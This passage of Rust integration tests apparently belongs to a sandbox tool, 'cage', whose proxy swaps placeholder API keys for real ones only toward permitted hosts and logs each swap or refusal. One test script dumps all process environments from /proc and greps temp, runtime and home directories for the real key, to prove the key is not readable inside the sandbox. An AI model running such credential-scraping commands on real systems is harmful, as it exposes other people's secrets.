    // argv holds it either (cage logs every command's argv).
    let (k1, k2) = REAL_KEY.split_at(10);
    let script = format!(
        "echo \"key=$TEST_KEY\"; K1='{k1}'; K2='{k2}'; \
         cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' > /tmp/procs; \
         printf '%s%s\\n' \"$K1\" \"$K2\" > /tmp/.pattern; \
         grep -rl --exclude=.pattern -f /tmp/.pattern /tmp /run \"$HOME\" /proc/self/environ \
             /etc/hosts 2>/dev/null; echo \"grep exit $?\"; rm /tmp/.pattern; \
         {CURL} -x http://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" https://127.0.0.1:{a}/good; \
         echo; curl -sS --max-time 20 -H \"x-api-key: $TEST_KEY\" https://127.0.0.1:{a}/direct; \
         echo; {CURL} -x http://127.0.0.1:3128 -u \"x-access-token:$TEST_KEY\" \
             https://127.0.0.1:{a}/basic; \
         echo; {CURL} -x http://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" \
             https://127.0.0.1:{b}/other; \
         echo; {CURL} -H \"x-api-key: $TEST_KEY\" http://127.0.0.1:{p}/plain -x http://127.0.0.1:3128; \
         echo; echo done"
    );
    let out = sb
        .command(&[
            "--secret",
            &format!("TEST_KEY@127.0.0.1:{a}"),
            "--secret",
            &format!("OTHER_KEY@127.0.0.1:{b}"),
            "--allow-host",
            &format!("127.0.0.1:{p}"),
            "--",
            "sh",
            "-c",
            &script,
        ])
        .env("TEST_KEY", REAL_KEY)
        .env("OTHER_KEY", OTHER_KEY)
        .env("SSL_CERT_FILE", &ca_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let run = Run(out);
    run.assert_ok();
    let stdout = run.stdout();
    // Inside: a placeholder of the same shape, and the value nowhere.
    let key = stdout
        .lines()
        .find_map(|l| l.strip_prefix("key="))
        .unwrap_or_default();
    assert_eq!(key.len(), REAL_KEY.len(), "{stdout}");
    assert!(key.starts_with("sk-real-") && key != REAL_KEY, "{stdout}");
    assert!(
        stdout.contains("grep exit 1"),
        "the value is readable inside: {stdout}"
    );
    assert!(
        !stdout.contains(REAL_KEY),
        "the cage saw the value: {stdout}"
    );
    assert!(!run.stderr().contains(REAL_KEY), "{}", run.stderr());
    // The secret's host got the real value, both ways in; the echo came
    // back with the placeholder.
    let heads = good.heads();
    assert_eq!(heads.len(), 3, "{heads:?}");
    for h in &heads[..2] {
        assert!(h.contains(&format!("x-api-key: {REAL_KEY}")), "{h}");
        assert!(!h.contains(key), "{h}");
    }
    assert!(stdout.contains(&format!("x-api-key: {key}")), "{stdout}");
    // In Basic credentials too (git's HTTPS authentication), and their
    // echo comes back with the placeholder's.
    let basic = |k: &str| base64(format!("x-access-token:{k}").as_bytes());
    assert!(
        heads[2].to_ascii_lowercase().contains(&format!(
            "authorization: basic {}",
            basic(REAL_KEY).to_ascii_lowercase()
        )),
        "{}",
        heads[2]
    );
    assert!(stdout.contains(&basic(key)), "{stdout}");
    assert!(!stdout.contains(&basic(REAL_KEY)), "{stdout}");
    // The other secret's host, and plain HTTP, got nothing.
    assert!(other.heads().is_empty(), "{:?}", other.heads());
    assert_eq!(plain.hits(), 0);
    assert!(stdout.contains("may not go to this host"), "{stdout}");
    assert!(stdout.contains("over HTTPS only"), "{stdout}");
    assert!(stdout.contains("done"), "{stdout}");
    // Recorded: two swaps, two refusals, scrubbed echoes; never a value.
    let audit = sb.audit();
    let uses = records(&audit, "secret");
    let kinds = |kind: &str, port: u16| {
        uses.iter()
            .filter(|r| r["kind"] == kind && r["port"] == port && r["secret"] == "TEST_KEY")
            .count()
    };
    assert_eq!(kinds("swapped", a), 3, "{uses:?}");
    assert_eq!(kinds("scrubbed", a), 3, "{uses:?}");
    assert_eq!(kinds("refused", b), 1, "{uses:?}");
    assert_eq!(kinds("refused", p), 1, "{uses:?}");
    let end = records(&audit, "session_end");
    assert_eq!(end[0]["secret_requests"]["TEST_KEY"], 3, "{end:?}");
    let sessions = sb.home.join(".local/state/cage/sessions");
    let log = std::fs::read_dir(&sessions)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    for entry in std::fs::read_dir(&log).unwrap().flatten() {
        if entry.path().is_file() {
            let text = std::fs::read(entry.path()).unwrap();
            let text = String::from_utf8_lossy(&text);
            assert!(
                !text.contains(REAL_KEY),
                "{} holds the value",
                entry.path().display()
            );
            assert!(
                !text.contains(OTHER_KEY),
                "{} holds the value",
                entry.path().display()
            );
        }
    }
    assert!(
        run.stderr()
            .contains("cage: secrets: TEST_KEY sent in 3 request(s)"),
        "{}",
        run.stderr()
    );
    // `cage log` shows the swap.
    let log = sb.command(&["log"]).output().unwrap();
    let text = String::from_utf8_lossy(&log.stdout);
    assert!(text.contains("secret TEST_KEY swapped in"), "{text}");
    assert!(text.contains("secret TEST_KEY REFUSED"), "{text}");
    assert!(!text.contains(REAL_KEY));
}

#[test]
fn an_upstream_the_host_does_not_trust_gets_no_secret() {
    // Without SSL_CERT_FILE naming the test CA, the proxy's upstream check
    // fails: the request is answered 502 and the server sees no value.
    let ca = TestCa::new();
    let server = TlsServer::start(&ca);
    let sb = Sandbox::new("secrets-untrusted");
    let a = server.port;
    let out = sb
        .command(&[
            "--secret",
            &format!("TEST_KEY@127.0.0.1:{a}"),
            "--",
            "sh",
            "-c",
            &format!(
                "{CURL} -x http://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" https://127.0.0.1:{a}/; \
                 echo; {CURL} -x http://127.0.0.1:3128 --cacert /etc/ssl/certs/ca-certificates.crt \
                 https://127.0.0.1:{a}/pinned; echo \"pinned exit $?\"; echo done"
            ),
        ])
        .env("TEST_KEY", REAL_KEY)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let run = Run(out);
    run.assert_ok();
    assert!(
        run.stdout().contains("TLS to 127.0.0.1"),
        "{}",
        run.stdout()
    );
    assert!(
        server.heads().iter().all(|h| !h.contains(REAL_KEY)),
        "{:?}",
        server.heads()
    );
    // A client that does not trust the bundle (as one that pins would)
    // fails its handshake; both failures are recorded.
    assert!(run.stdout().contains("pinned exit 60"), "{}", run.stdout());
    let audit = sb.audit();
    let failed: Vec<String> = records(&audit, "secret")
        .iter()
        .filter(|r| r["kind"] == "tlsfailed")
        .map(|r| r["reason"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(failed[0].contains("TLS to 127.0.0.1"), "{failed:?}");
    assert!(failed[1].contains("pins certificates"), "{failed:?}");
}

#[test]
fn a_large_request_body_goes_through_a_terminated_connection_whole() {
    // The body arrives faster than the proxy forwards it, so rustls holds
    // more than one read of plaintext: all of it must reach the server.
    let ca = TestCa::new();
    let server = TlsServer::start(&ca);
    let sb = Sandbox::new("secrets-body");
    let ca_file = ca.write(&sb.root);
    let a = server.port;
    let script = format!(
        "head -c 3000000 /dev/zero | tr '\\0' 'x' > /tmp/body; \
         for i in 1 2 3; do {CURL} -x http://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" \
             --data-binary @/tmp/body https://127.0.0.1:{a}/up | head -1; done"
    );
    let out = sb
        .command(&[
            "--secret",
            &format!("TEST_KEY@127.0.0.1:{a}"),
            "--",
            "sh",
            "-c",
            &script,
        ])
        .env("TEST_KEY", REAL_KEY)
        .env("SSL_CERT_FILE", &ca_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let run = Run(out);
    run.assert_ok();
    assert_eq!(
        run.stdout()
            .matches("you sent 3000000 bytes of body")
            .count(),
        3,
        "{}",
        run.stdout()
    );
}

#[test]
fn a_secret_is_swapped_through_socks5_too() {
    let ca = TestCa::new();
    let server = TlsServer::start(&ca);
    let sb = Sandbox::new("secrets-socks");
    let ca_file = ca.write(&sb.root);
    let a = server.port;
    let out = sb
        .command(&[
            "--secret",
            &format!("TEST_KEY@127.0.0.1:{a}"),
            "--",
            "sh",
            "-c",
            &format!(
                "{CURL} --proxy socks5://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" \
                 https://127.0.0.1:{a}/socks"
            ),
        ])
        .env("TEST_KEY", REAL_KEY)
        .env("SSL_CERT_FILE", &ca_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let run = Run(out);
    run.assert_ok();
    let heads = server.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0].contains(&format!("x-api-key: {REAL_KEY}")),
        "{}",
        heads[0]
    );
    assert!(!run.stdout().contains(REAL_KEY), "{}", run.stdout());
    let audit = sb.audit();
    assert_eq!(records(&audit, "net")[0]["proto"], "socks5");
    assert_eq!(records(&audit, "secret")[0]["kind"], "swapped");
}

#[test]
fn an_excluded_host_keeps_its_tunnel_and_never_gets_the_secret() {
    // A client that pins certificates needs its host left alone: with the
    // host excluded, its connection is the end-to-end tunnel every host
    // without secrets gets (the client sees the server's own certificate),
    // and what arrives there is the placeholder the cage sent.
    let ca = TestCa::new();
    let (swapped, excluded) = (TlsServer::start(&ca), TlsServer::start(&ca));
    let sb = Sandbox::new("secrets-exclude");
    let ca_file = ca.write(&sb.root);
    let (a, b) = (swapped.port, excluded.port);
    let policy = sb.policy(&format!(
        "[secrets.TEST_KEY]\nfrom = \"env:TEST_KEY\"\nenv = \"TEST_KEY\"\n\
         hosts = [\"127.0.0.1:{a}\", \"127.0.0.1:{b}\"]\nexclude = [\"127.0.0.1:{b}\"]\n"
    ));
    let out = sb
        .command(&[
            "-f",
            policy.to_str().unwrap(),
            "--allow-host",
            &format!("127.0.0.1:{a}"),
            "--allow-host",
            &format!("127.0.0.1:{b}"),
            "--",
            "sh",
            "-c",
            &format!(
                "echo \"key=$TEST_KEY\"; \
                 {CURL} -x http://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" https://127.0.0.1:{a}/; \
                 echo; {CURL} -x http://127.0.0.1:3128 -H \"x-api-key: $TEST_KEY\" \
                 https://127.0.0.1:{b}/pinned; echo; echo done"
            ),
        ])
        .env("TEST_KEY", REAL_KEY)
        .env("SSL_CERT_FILE", &ca_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let run = Run(out);
    run.assert_ok();
    let stdout = run.stdout();
    let key = stdout
        .lines()
        .find_map(|l| l.strip_prefix("key="))
        .unwrap_or_default()
        .to_string();
    assert_eq!(key.len(), REAL_KEY.len(), "{stdout}");
    assert!(stdout.contains("done"), "{stdout}");
    let (to_a, to_b) = (swapped.heads(), excluded.heads());
    assert_eq!(to_a.len(), 1, "{to_a:?}");
    assert!(
        to_a[0].contains(&format!("x-api-key: {REAL_KEY}")),
        "{to_a:?}"
    );
    assert_eq!(to_b.len(), 1, "{to_b:?}");
    assert!(to_b[0].contains(&format!("x-api-key: {key}")), "{to_b:?}");
    assert!(!to_b[0].contains(REAL_KEY), "{to_b:?}");
    // Only the terminated host's swap is recorded; the tunnel, none.
    let audit = sb.audit();
    let uses = records(&audit, "secret");
    assert!(uses.iter().all(|r| r["port"] == a), "{uses:?}");
    assert_eq!(
        uses.iter().filter(|r| r["kind"] == "swapped").count(),
        1,
        "{uses:?}"
    );
}

#[test]
fn a_body_gets_the_secret_only_by_rule_and_never_another_hosts_placeholder() {
    let ca = TestCa::new();
    let (api, other) = (TlsServer::start(&ca), TlsServer::start(&ca));
    let sb = Sandbox::new("secrets-body-rule");
    let ca_file = ca.write(&sb.root);
    let (a, b) = (api.port, other.port);
    let policy = sb.policy(&format!(
        "[secrets.TEST_KEY]\nfrom = \"env:TEST_KEY\"\nenv = \"TEST_KEY\"\n\
         hosts = [\"127.0.0.1:{a}\"]\nbody = true\n\
         [secrets.OTHER_KEY]\nfrom = \"env:OTHER_KEY\"\nenv = \"OTHER_KEY\"\n\
         hosts = [\"127.0.0.1:{b}\"]\n"
    ));
    let post = |port: u16, var: &str, path: &str| {
        format!(
            "{CURL} -x http://127.0.0.1:3128 --data \"{{\\\"key\\\": \\\"${var}\\\"}}\" \
             https://127.0.0.1:{port}/{path}; echo;"
        )
    };
    let script = format!(
        "echo \"other=$OTHER_KEY\"; {} {} {} echo done",
        post(a, "TEST_KEY", "rule"),
        post(b, "OTHER_KEY", "norule"),
        post(a, "OTHER_KEY", "wronghost"),
    );
    let out = sb
        .command(&[
            "-f",
            policy.to_str().unwrap(),
            "--allow-host",
            &format!("127.0.0.1:{a}"),
            "--allow-host",
            &format!("127.0.0.1:{b}"),
            "--",
            "sh",
            "-c",
            &script,
        ])
        .env("TEST_KEY", REAL_KEY)
        .env("OTHER_KEY", OTHER_KEY)
        .env("SSL_CERT_FILE", &ca_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let run = Run(out);
    run.assert_ok();
    let stdout = run.stdout();
    assert!(stdout.contains("done"), "{stdout}");
    assert!(
        !stdout.contains(REAL_KEY) && !stdout.contains(OTHER_KEY),
        "{stdout}"
    );
    let other_placeholder = stdout
        .lines()
        .find_map(|l| l.strip_prefix("other="))
        .unwrap_or_default()
        .to_string();
    assert_eq!(other_placeholder.len(), OTHER_KEY.len(), "{stdout}");
    // With body = true the value reaches its host in the body.
    let to_a = api.bodies();
    assert_eq!(to_a.len(), 1, "{to_a:?} {stdout}");
    assert!(
        to_a[0].contains(&format!("\"key\": \"{REAL_KEY}\"")),
        "{to_a:?}"
    );
    // Without it, the placeholder goes as it is, to its own host.
    let to_b = other.bodies();
    assert_eq!(to_b.len(), 1, "{to_b:?} {stdout}");
    assert!(to_b[0].contains(&other_placeholder), "{to_b:?}");
    assert!(!to_b[0].contains(OTHER_KEY), "{to_b:?}");
    // Another secret's placeholder in a body: refused, and recorded.
    assert!(stdout.contains("may not go to this host"), "{stdout}");
    assert!(api.bodies().iter().all(|b| !b.contains(&other_placeholder)));
    let audit = sb.audit();
    let uses = records(&audit, "secret");
    let count = |kind: &str, secret: &str| {
        uses.iter()
            .filter(|r| r["kind"] == kind && r["secret"] == secret)
            .count()
    };
    assert_eq!(count("swapped", "TEST_KEY"), 1, "{uses:?}");
    assert_eq!(count("refused", "OTHER_KEY"), 1, "{uses:?}");
    assert_eq!(count("swapped", "OTHER_KEY"), 0, "{uses:?}");
}
